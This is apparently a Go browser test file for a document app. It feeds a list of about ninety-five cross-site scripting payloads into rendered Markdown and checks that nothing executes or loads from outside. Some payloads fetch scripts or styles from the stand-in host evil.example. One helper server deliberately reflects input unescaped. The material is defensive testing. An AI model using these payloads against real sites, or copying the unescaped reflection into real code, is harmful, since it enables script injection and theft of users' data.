package pages_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"picora/app/apptest"
	"picora/app/apptest/browser"
)

// attacks are texts that try to do something on the page that shows them. In each,
// run() is what a script would call, and evil.example what a request would go to.
var attacks = []struct{ name, text string }{
	{"script", `<script>run()</script>`},
	{"script in mixed case, with an attribute", `<ScRiPt x=">">run()</sCrIpT>`},
	{"script from elsewhere", `<script src="//evil.example/x.js"></script>`},
	{"script split by one that is taken out", `<scr<script>ipt>run()</scr</script>ipt>`},
	{"script of an odd type", `<script type="module">run()</script>`},
	{"javascript: link", `[x](javascript:run())`},
	{"javascript: link in mixed case", `[x](JaVaScRiPt:run())`},
	{"javascript: link with entities", `[x](&#x6A;avascript&colon;run&lpar;&rpar;)`},
	{"javascript: link with a tab inside", "<a href=\"java\tscript:run()\">x</a>"},
	{"javascript: link with a newline inside", "<a href=\"java\nscript:run()\">x</a>"},
	{"javascript: link with an encoded newline", `<a href="java&#10;script:run()">x</a>`},
	{"javascript: link after control characters", "<a href=\"\x01\x02 javascript:run()\">x</a>"},
	{"javascript: link without quotes", `<a href=javascript:run()>x</a>`},
	{"javascript: behind a comment that looks like an address", `<a href="javascript://evil.example/%0arun()">x</a>`},
	{"javascript: autolink", `<javascript:run()>`},
	{"javascript: by reference", "[x]\n\n[x]: javascript:run()"},
	{"javascript: by reference, in brackets", "[x]\n\n[x]: <javascript:run()> \"t\""},
	{"javascript: picture", `![x](javascript:run())`},
	{"vbscript: link", `[x](vbscript:msgbox)`},
	{"data: link", `[x](data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==)`},
	{"data: link that says it is a picture", `[x](data:image/svg+xml,<svg/onload=run()>)`},
	{"data: picture of SVG", `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='run()'/%3E">`},
	{"blob:, file: and view-source: links", `[a](blob:x) [b](file:///etc/passwd) [c](view-source:http://evil.example)`},
	{"intent: and other schemes", `[a](intent://evil.example#Intent;end) [b](ms-word:ofe|u|x) [c](tel:1)`},
	{"onerror", `<img src=x onerror=run()>`},
	{"onerror after a slash", `<img/src="x"/onerror=run()>`},
	{"onerror with a backtick", "<img src=`x` onerror=`run()`>"},
	{"onload on everything", `<body onload=run()><div onmouseover=run()><details open ontoggle=run()>x</details>`},
	{"autofocus and onfocus", `<a href="#" autofocus onfocus=run() tabindex=1>x</a><input autofocus onfocus=run()>`},
	{"animation events", `<p style="animation:x" onanimationstart=run()>x</p>`},
	{"handler after a broken title", `[x](http://evil.example "a" onmouseover="run()")`},
	{"title that breaks out", `[x](http://evil.example 'a" onclick="run()')`},
	{"picture's description that breaks out", `![a" onerror="run()](x.png)`},
	{"picture's title that breaks out", `![a](x.png '" onerror="run()')`},
	{"address that breaks out", `![a](<x" onerror="run()">)`},
	{"SVG with a handler", `<svg onload=run()><circle/></svg>`},
	{"SVG with a script", `<svg><script>run()</script></svg>`},
	{"SVG link", `<svg><a xlink:href="javascript:run()"><text y=20>x</text></a></svg>`},
	{"SVG use and animate", `<svg><use href="data:image/svg+xml,<svg id=x onload=run()>#x"/><animate onbegin=run() attributeName=x dur=1s></svg>`},
	{"foreignObject", `<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>`},
	{"MathML", `<math><maction actiontype="statusline" xlink:href="javascript:run()">x</maction></math>`},
	{"MathML that changes how it is read", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">`},
	{"SVG that changes how it is read", `<svg></p><style><a id="</style><img src=1 onerror=run()>">`},
	{"noscript that changes how it is read", `<noscript><p title="</noscript><img src=x onerror=run()>">`},
	{"template", `<template><img src=x onerror=run()></template><template shadowrootmode=open><script>run()</script></template>`},
	{"textarea, title and xmp that hide an end", `<textarea></textarea><img src=x onerror=run()></textarea><title><img src=x onerror=run()></title><xmp><img src=x onerror=run()></xmp>`},
	{"plaintext", `<plaintext><img src=x onerror=run()>`},
	{"frame", `<iframe src="javascript:run()"></iframe>`},
	{"frame with a document of its own", `<iframe srcdoc="<script>parent.run()</script>"></iframe>`},
	{"object, embed and applet", `<object data="javascript:run()"></object><embed src="//evil.example/x.swf"><applet code=x></applet>`},
	{"frameset and portal", `<frameset><frame src="javascript:run()"></frameset><portal src="//evil.example"></portal>`},
	{"form", `<form action="javascript:run()"><input type=submit autofocus></form>`},
	{"formaction", `<button formaction="javascript:run()">x</button><input type=image src=//evil.example/x.png>`},
	{"a form around the rest", `<form id=f action=//evil.example><input name=x>`},
	{"base", `<base href="//evil.example/">[x](y)`},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:run()"><meta http-equiv=refresh content="0;url=//evil.example/">`},
	{"meta that loosens the policy", `<meta http-equiv="Content-Security-Policy" content="script-src *">`},
	{"link", `<link rel="stylesheet" href="//evil.example/x.css"><link rel=prefetch href=//evil.example/p><link rel="dns-prefetch" href=//evil.example>`},
	{"style", `<style>body{background:url(//evil.example/bg)} @import "//evil.example/x.css";</style>`},
	{"style attribute", `<p style="background:url(//evil.example/bg);position:fixed;inset:0;width:expression(run());behavior:url(x)">x</p>`},
	{"background and other old attributes", `<table background="//evil.example/bg"><tr><td background="//evil.example/td" dynsrc=//evil.example/d lowsrc=//evil.example/l>x</td></tr></table>`},
	{"picture from elsewhere", `![x](https://evil.example/pixel.gif) <img src="//evil.example/p.gif"> <img src="\\evil.example\p">`},
	{"srcset", `<img srcset="//evil.example/2x 2x" src=x><picture><source srcset="//evil.example/s"><img></picture>`},
	{"video, audio and their posters", `<video src=//evil.example/v poster=//evil.example/p autoplay onloadstart=run()><source onerror=run()></video><audio src=//evil.example/a autoplay></audio>`},
	{"ping and target", `<a href="https://evil.example" ping="//evil.example/ping" target="_top" download>x</a>`},
	{"clobbering by id and name", `<img name=body><img id=getElementById><a id=document name=cookie></a><form name=querySelector><input id=text></form>`},
	{"heading that takes an id of the page", "# text\n\n<h2 id=text>text</h2>\n\n# __proto__"},
	{"comment", `<!-- --><img src=x onerror=run()> --> <!--><script>run()</script>--> <!--[if gte IE 4]><script>run()</script><![endif]-->`},
	{"comment that does not end", `<!--><img src=x onerror=run()>`},
	{"CDATA and processing instructions", `<![CDATA[<img src=x onerror=run()>]]> <?php run() ?><?xml-stylesheet href="javascript:run()"?>`},
	{"nested links", `<a href="http://a.example"><a href="javascript:run()">x</a></a> [a [b](javascript:run())](http://a.example)`},
	{"end tags that leave the page's container", `</article></main></body></html><script>run()</script><h1>Sign in</h1>`},
	{"NUL bytes (they are taken out of the way)", "<scr\ufffdipt>run()</script><img src=\"java\ufffdscript:run()\">"},
	{"unicode that folds to ASCII", "<ſcript>run()</ſcript><ımg src=x onerror=run()> [x](ｊａｖａｓｃｒｉｐｔ:run())"},
	{"text in both directions", "[\u202ecod.elpmaxe.live\u202c](http://evil.example) \u2066<script>\u2069run()"},
	{"code's language", "```\"><script>run()</script>\nx\n```\n\n```js onclick=run()\nx\n```"},
	{"code", "`<script>run()</script>` and\n\n    <img src=x onerror=run()>"},
	{"table", "|<script>run()</script>|<img src=x onerror=run()>|\n|-|:-:|\n|[x](javascript:run())|`<b onclick=run()>`|"},
	{"HTML table around Markdown", "<table><tr><td onclick=run()>\n\n[x](javascript:run())\n\n</td></tr></table>"},
	{"footnote", "a[^1] b[^\"><script>run()</script>]\n\n[^1]: <script>run()</script> [x](javascript:run())\n[^\"><script>run()</script>]: x"},
	{"task list", "- [x] <script>run()</script>\n- [ ] [x](javascript:run())\n- [x](javascript:run())"},
	{"definition list", "<img src=x onerror=run()>\n: <script>run()</script>"},
	{"bare addresses", "https://evil.example/\"onmouseover=\"run() www.evil.example/<script>run()</script> http://evil.example/'><img/onerror=run()>"},
	{"e-mail autolink", `<a@b.example?body=x&bcc=victim@example.org> <"onclick=run()"@b.example>`},
	{"letter with headers", `[x](mailto:a@b.example?bcc=victim@example.org&body=hello%0d%0aX: y)`},
	{"front matter", "---\ntitle: \"</title><script>run()</script>\"\n---\n<script>run()</script>"},
	{"an attribute twice, slashes and no spaces", `<a href="#"href="javascript:run()"/onclick=run()>x</a>`},
	{"unfinished tags", `<img src=x onerror=run() <b <a href="javascript:run()`},
	{"event handler with odd white space", "<img src=x on\u000cerror=run()><img\u000bsrc=x\u000conerror=run()>"},
	{"is, slot, part and custom elements", `<x-y onclick=run() contenteditable autofocus onfocus=run()>x</x-y><p is=x-y popover id=p>x</p><button popovertarget=p>x</button>`},
	{"dialog that is open", `<dialog open onclose=run()><form method=dialog><button autofocus>x</button></form></dialog>`},
	{"marquee and keygen and isindex", `<marquee onstart=run()>x</marquee><keygen autofocus onfocus=run()><isindex action=javascript:run() type=image>`},
	{"select, option and datalist", `<select autofocus onfocus=run()><option><style></option></select><img src=x onerror=run()></style>`},
}

// alive looks for whatever could act, in the browser's own view of the page.
const alive = `(() => {
  const bad = [];
  for (const e of document.querySelectorAll("*")) {
    const name = e.localName;
    if (!["html","head","meta","title","link","body"].includes(name) || e.closest("article, pre")) {
      if (/^(script|style|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|dialog|base|meta|link|svg|math|template|noscript|video|audio|source|picture|portal|x-.*)$/.test(name)) bad.push("<" + name + ">");
    }
    for (const a of e.attributes) {
      if (/^on|^(style|srcset|srcdoc|ping|target|background|poster|formaction|action|name|is|contenteditable|popover|autofocus)$/.test(a.name) && name !== "meta" ) bad.push(name + " " + a.name + "=" + a.value);
      if (/^(href|src|xlink:href|data|cite)$/.test(a.name) && name !== "link" && !/^(https?:\/\/|#|\/[^\/]|mailto:[^?]*$|data:image\/(png|gif|jpeg|webp);)/.test(a.value)) bad.push(name + " " + a.name + "=" + a.value);
    }
    if (name === "a" && e.closest("article") && e.getAttribute("href") && !e.getAttribute("href").startsWith("#") && e.rel !== "nofollow ugc noopener noreferrer") bad.push("a rel=" + e.rel);
    if (e.closest("article") && e.id && !/^(s-|note-)/.test(e.id) && e.id !== "text") bad.push("id=" + e.id);
  }
  if (document.querySelectorAll("main").length !== 1 || document.querySelectorAll("#text").length !== 1) bad.push("the page's own frame is broken");
  if (document.querySelector("body > :not(main):not(.skip)")) bad.push("out of the frame: " + document.querySelector("body > :not(main):not(.skip)").outerHTML);
  for (const name of ["querySelector", "cookie", "getElementById", "body"]) if (document[name] instanceof HTMLCollection || document[name]?.localName === "img") bad.push("clobbered: " + name);
  if (window.ran) bad.push("it ran");
  for (const e of document.querySelectorAll("main *")) e.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
  return bad;
})()`

// The net has no holes: what the same texts would do on a page that is careless is seen.
func TestTheAttacksAreSeenWhereTheyWork(t *testing.T) {
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><main><article id=text>%s</article></main>", r.URL.Query().Get("text"))
	}))
	defer careless.Close()
	tab := browser.Start(t).New(t, browser.View{})
	tab.Before(listener)
	for text, sign := range map[string]string{
		`<script>run()</script>`: "it ran", `<img src=x onerror=run()>`: "onerror", `<a href="javascript:run()">x</a>`: "href=javascript:",
		`<iframe src="data:text/html,x"></iframe>`: "<iframe>", `<form action="/x"></form>`: "<form>", `<p style="color:red">x</p>`: "style=",
		`</article></main><p>x</p>`: "out of the frame", `<img name=cookie>`: "name=", `<p id=x>`: "id=x",
	} {
		tab.Go(careless.URL + "/?text=" + url.QueryEscape(text))
		if bad := browser.Eval[[]string](tab, alive); !strings.Contains(strings.Join(bad, "\n"), sign) {
			t.Errorf("%s is not seen: %q", text, bad)
		}
	}
}

// listener notices what runs, in every page before its own content.
const listener = `window.ran = false; window.run = () => { window.ran = true; console.log("ran") }`

// What people write into documents does nothing in the browser of who reads them.
func TestNothingInADocumentIsActive(t *testing.T) {
	if len(attacks) < 50 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	p := apptest.StartWithWorkers(t)
	chromium := browser.Start(t)
	tab := chromium.New(t, browser.View{})
	tab.Before(listener)
	see := func(t *testing.T, text string) {
		d := add(t, p, "attack.md", text)
		before, said := len(tab.Requests()), len(tab.Said())
		tab.Go(p.URL + "/d/" + d.ID)
		if bad := browser.Eval[[]string](tab, alive); len(bad) > 0 {
			t.Errorf("%q left %q", text, bad)
		}
		if said := tab.Said()[said:]; len(said) > 0 {
			t.Errorf("%q said %q", text, said)
		}
		for _, r := range tab.Requests()[before:] {
			if !strings.HasPrefix(r, p.URL+"/d/") && !strings.HasPrefix(r, p.URL+"/page/") && r != p.URL+"/favicon.ico" {
				t.Errorf("%q asked for %s", text, r)
			}
		}
		if plain := browser.Eval[bool](tab, `!!document.querySelector("pre.plain")`); plain {
			t.Errorf("%q was not laid out", text)
		}
	}
	var all strings.Builder
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) { see(t, fmt.Sprintf("%s\n\nend of %d", a.text, i)) })
		all.WriteString("\n\n" + a.text)
	}
	t.Run("all at once", func(t *testing.T) { see(t, all.String()) })
}
